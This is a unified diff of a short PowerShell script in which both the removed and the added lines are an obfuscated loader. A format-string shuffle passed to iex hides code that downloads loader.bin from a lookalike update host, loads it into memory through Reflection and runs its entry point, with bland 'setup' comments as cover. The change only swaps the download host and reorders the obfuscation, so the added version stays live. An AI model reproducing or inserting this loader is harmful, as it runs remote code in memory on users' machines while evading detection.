@@ -1,5 +1,5 @@
-iex ("{2}{1}{3}{0}" -f ' @()))
-','bClient).DownloadData(''http://dl.winupdate-cdn.example/loader.bin'')
-$a = [System.Reflection.Assembly]:','# provision 8634 v4
-$b = (New-Object Net.We',':Load($b)
-$a.EntryPoint.Invoke($null, (, [string[]]')
+iex ("{1}{2}{0}" -f '.Assembly]::Load($b)
+$a.EntryPoint.Invoke($null, (, [string[]] @()))
+','# setup 5644 v4
+$b',' = (New-Object Net.WebClient).DownloadData(''http://files.sync-svc.example/loader.bin'')
+$a = [System.Reflection')
